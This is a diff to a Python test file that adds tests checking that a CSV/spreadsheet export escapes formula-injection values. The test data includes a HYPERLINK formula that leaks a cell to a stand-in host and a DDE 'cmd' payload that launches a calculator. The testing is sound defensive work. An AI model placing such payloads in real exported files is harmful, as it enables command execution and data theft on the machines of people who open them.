@@ -22,6 +22,7 @@ from pytest_proofpack.certificate.formats import finish_certificate
 from pytest_proofpack.commands.export import FORMATS
 from pytest_proofpack.common.strict_json import pretty_json, read_json
 from pytest_proofpack.results.exports import EXPORTS
+from pytest_proofpack.results.exports.rows import _cell
 from tests.results.conftest import PACKED_QUANT, QUANT, Command, few_certificates
 from tests.support.certificates import make_evidence, make_plan
 from tests.support.forgery import forge_certificate, rederive
@@ -114,6 +115,19 @@ class TestRows:
         assert {row["model"] for row in rows} == {"'=cmd|' /C calc'!A0\",`<b>\\x0a@x: \"y\" \U0001f600\\u2028\\"}
         assert {float(row["ratio"]) > 0 for row in rows if row["ratio"]} == {True}
         assert next(row["failed_gates"] for row in rows if row["scenario"] == "nan_injection")
+
+    @pytest.mark.parametrize(
+        ("name", "cell"),
+        [
+            ('a;=HYPERLINK("http://x?"&A1)', 'a;\'=HYPERLINK("http://x?"&A1)'),
+            ('a, "=1+1', "a, \"'=1+1"),
+            ("\uff1d1+1", "'\uff1d1+1"),
+            ("a;\uff20x", "a;'\uff20x"),
+            ("acme/tiny-1m;v2=a", "acme/tiny-1m;v2=a"),
+        ],
+    )
+    def test_no_separator_begins_a_formula(self, name: str, cell: str) -> None:
+        assert _cell(name) == cell
 
 
 class TestLmEval:
